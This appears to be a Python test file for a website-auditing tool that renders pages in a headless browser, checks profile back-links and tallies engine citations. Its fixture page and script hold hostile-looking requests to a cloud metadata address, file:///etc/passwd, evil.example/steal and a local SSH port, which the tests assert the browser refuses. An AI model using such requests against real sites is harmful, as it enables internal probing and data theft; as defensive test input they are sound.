"""What a browser shows beyond the HTML, what profiles say, what engines cited."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from scipy.stats import binomtest

from groma.site import Folder, Response, audit_site
from groma.site.beyond import Beyond, looking
from groma.site.browser import Browser, Shown
from groma.site.citations import read_citations, shares
from groma.site.measured import MeasuredError
from groma.site.profiles import looked_at, names_host
from groma.site.rendered import compared
from groma.solvers.monitoring import wilson
from site_live import Live

START = "https://www.lumen.example/"
PAGE = """<!doctype html><html lang=en><head><meta charset=utf-8><title>Raw</title></head><body><h1>Hello</h1><a href="/b.html">b</a>
<div id=root></div><script src=/app.js></script><img src="http://169.254.169.254/x"><img src="file:///etc/passwd"></body></html>"""
SCRIPT = """document.title = 'After'; alert('stop');
document.getElementById('root').innerHTML = '<p>' + 'words that scripts bring '.repeat(10) + '</p><a href="/hidden.html">h</a>';
const s = document.createElement('script'); s.type = 'application/ld+json';
s.textContent = '{"@context":"https://schema.org","@type":"Product","name":"X"}'; document.head.appendChild(s);
fetch('https://evil.example/steal'); fetch('http://127.0.0.1:22/'); fetch('/form', {method: 'POST', body: 'x'});
fetch('/data.json').then(r => r.text()).then(t => { document.getElementById('root').innerHTML += '<p>' + t + '</p>'; });"""


@pytest.fixture
def site(tmp_path: Path) -> Folder:
    for name, text in (
        ("index.html", PAGE), ("app.js", SCRIPT), ("data.json", "fetched"), ("hidden.html", "<title>h</title>hidden"),
        ("b.html", "<title>b</title><p>plain</p>"),
    ):  # fmt: skip
        (tmp_path / name).write_text(text)
    return Folder(tmp_path, START)


def test_a_browser_gets_everything_from_the_source_and_nothing_else(site: Folder, chromium: str) -> None:
    async def show() -> Shown:
        async with Browser(site, program=chromium) as browser:
            return await browser.show(START)

    shown = asyncio.run(show())
    assert not shown.error and "fetched" in shown.html and "<title>After" in shown.html
    assert {"http://169.254.169.254/x", "https://evil.example/steal", "http://127.0.0.1:22/"} <= set(
        shown.refused
    )
    assert START + "form" in shown.refused, "a look sends nothing"
    assert shown.raw.body == PAGE.encode()


def test_the_audits_say_what_only_scripts_bring(site: Folder, chromium: str) -> None:
    result = asyncio.run(audit_site(site, beyond=looking(pages=5)))
    hits = {
        name: look.hits for name, look in result.looks.items() if name.startswith("script-") and look.hits
    }
    assert set(hits) == {"script-only-text", "script-only-links", "script-changes-head", "script-only-items"}
    assert {hit.url for found in hits.values() for hit in found} == {START}, "the plain page has no finding"
    assert "42 of 44 words" in hits["script-only-text"][0].text
    assert hits["script-only-links"][0].quote == START + "hidden.html"
    assert "`Raw` in the HTML and `After`" in hits["script-changes-head"][0].text
    assert hits["script-only-items"][0].quote == "Product"


def test_what_robots_txt_refuses_is_not_loaded(site: Folder, chromium: str) -> None:
    (site.root / "robots.txt").write_text("User-agent: *\nDisallow: /app.js\n")
    result = asyncio.run(audit_site(site, beyond=looking(pages=1)))
    assert result.site.beyond.rendered is not None
    assert result.site.beyond.rendered[START].added == 0


def test_a_page_that_is_not_answered_any_more_is_not_judged(site: Folder, chromium: str) -> None:
    class Silent(Live):
        """A server that went away after the crawl: the browser then shows a page of its own, full of words."""

        start = START

        def allows(self, url: str) -> bool:
            return site.allows(url)

        async def fetch(self, url: str, *, most: int, document: bool = True) -> Response:
            return Response(url, 0, error="no answer in time")

    async def show() -> Shown:
        async with Browser(Silent(), program=chromium) as browser:
            return await browser.show(START)

    shown = asyncio.run(show())
    assert "no answer in time" in shown.error
    assert compared(shown).added == 0


def test_without_a_look_the_audits_say_so(site: Folder) -> None:
    result = asyncio.run(audit_site(site))
    for name in ("script-only-text", "script-only-links", "script-changes-head", "script-only-items"):
        assert result.looks[name].looked_at == 0 and "--render" in result.looks[name].unable
    assert "--follow-sameas" in result.looks["same-as-back"].unable


def test_a_script_that_moves_text_adds_none() -> None:
    raw = Response(START, 200, (("content-type", "text/html"),), b"<p>one two</p><p>three</p>")
    assert compared(Shown(START, raw, "<p>three</p><p>two one</p>", ())).added == 0
    assert compared(Shown(START, raw, "<p>three one two two</p>", ())).added == 1
    assert compared(Shown(START, raw, "", (), "gone")).error == "gone"


class Elsewhere(Live):
    """A host of profiles."""

    start = "https://profiles.example/"

    def __init__(self, **answers: Response | str) -> None:
        self.answers = answers

    def allows(self, url: str) -> bool:
        return url.startswith(self.start)

    async def fetch(self, url: str, *, most: int, document: bool = True) -> Response:
        found = self.answers.get(url.removeprefix(self.start).replace(".", "_"), Response(url, 404))
        return Response(url, 200, (), found.encode()) if isinstance(found, str) else found


@pytest.mark.parametrize(
    ("page", "robots", "state", "why"),
    [
        ('<a href="https://www.lumen.example/">site</a>', "", "points back", ""),
        ('<a href="/out?u=https%3A%2F%2Flumen.example">site</a>', "", "points back", ""),
        ("<p>notlumen.example and lumen.example.net, me@lumen.example</p>", "", "doesn't point back", ""),
        ("<p>Log in to see this profile</p>", "", "wasn't shown", "shows a login page"),
        ("lumen.example", "User-agent: GromaBot\nDisallow: /lumen", "wasn't shown", "its robots.txt refuses this crawler"),
        (Response("", 999), "", "wasn't shown", "answers 999"),
        (Response("", 302, (("location", "https://elsewhere.example/"),)), "", "wasn't shown", "leads to another host (elsewhere.example)"),
    ],
)  # fmt: skip
def test_a_profile_is_believed_only_when_it_was_shown(
    page: Response | str, robots: str, state: str, why: str
) -> None:
    host = Elsewhere(lumen=page, robots_txt=robots)
    found = asyncio.run(looked_at(host, "https://profiles.example/lumen", START))
    assert (found.state, found.why) == (state, why)


def test_a_host_is_named_as_a_whole() -> None:
    assert names_host("see lumen.example.", "lumen.example") and names_host(
        "//www.lumen.example/x", "lumen.example"
    )
    assert not names_host("my-lumen.example", "lumen.example") and not names_host(
        "a.lumen.example", "lumen.example"
    )


def test_profiles_that_do_not_point_back_are_found() -> None:
    from groma.site.profiles import Profile
    from groma.site.registry import all_audits
    from site_maker import Served, made

    async def beyond(*_: object) -> Beyond:
        return Beyond(profiles={u: Profile(u, s) for u, s in (("https://a.example/", "points back"), ("https://b.example/", "doesn't point back"), ("https://c.example/", "wasn't shown"))})  # fmt: skip

    look = asyncio.run(audit_site(Served(made(40)), beyond=beyond)).looks["same-as-back"]
    assert [hit.quote for hit in look.hits] == ["https://b.example/"] and look.looked_at == 2
    assert "c.example" in look.unable and all_audits()["same-as-back"].tier == "ranking"


@pytest.mark.parametrize(
    ("hits", "trials", "low", "high"),
    [(81, 263, 0.2553, 0.3662), (15, 148, 0.0624, 0.1605), (0, 20, 0.0000, 0.1611), (1, 29, 0.0061, 0.1718)],
)
def test_wilson_s_interval_is_scipy_s_and_newcombe_s(hits: int, trials: int, low: float, high: float) -> None:
    """Digits as recalled of R. G. Newcombe, Two-sided confidence intervals for the single proportion, 1998, table I."""
    found = wilson(hits, trials)
    assert found == pytest.approx(tuple(binomtest(hits, trials).proportion_ci(method="wilson")), abs=1e-6)
    assert found == (pytest.approx(low, abs=5e-5), pytest.approx(high, abs=5e-5))
    other = wilson(trials - hits, trials)
    assert other == (pytest.approx(1 - found[1]), pytest.approx(1 - found[0]))


def test_citations_are_counted_by_engine_and_tied_to_pages() -> None:
    sheet = (
        "date,engine,question,cited\n2026-11-01,B,q1,https://www.lumen.example/faq/\n2026-11-02,B,q2,none\n"
        "2026-11-03,B,q1,https://other.example/\n2026-11-01,A,q1,\n"
    )
    a, b = shares(read_citations(sheet), ["www.lumen.example"])
    assert (a.engine, a.cited, a.asked, a.pages) == ("A", 0, 1, ())
    assert (b.cited, b.asked, b.pages) == (1, 3, (("https://www.lumen.example/faq/", 1),))
    assert (b.since, b.until) == ("2026-11-01", "2026-11-03")


def test_all_mistakes_of_a_sheet_are_told_at_once() -> None:
    sheet = "date,engine,question,cited\nsoon,B,q,none\n2026-11-02,,q,none\n2026-11-02,B,q,somewhere\n"
    with pytest.raises(MeasuredError, match=r"row 2: .*row 3: .*row 4: "):
        read_citations(sheet)
    with pytest.raises(MeasuredError, match="cited isn't there"):
        read_citations("date,engine\n")
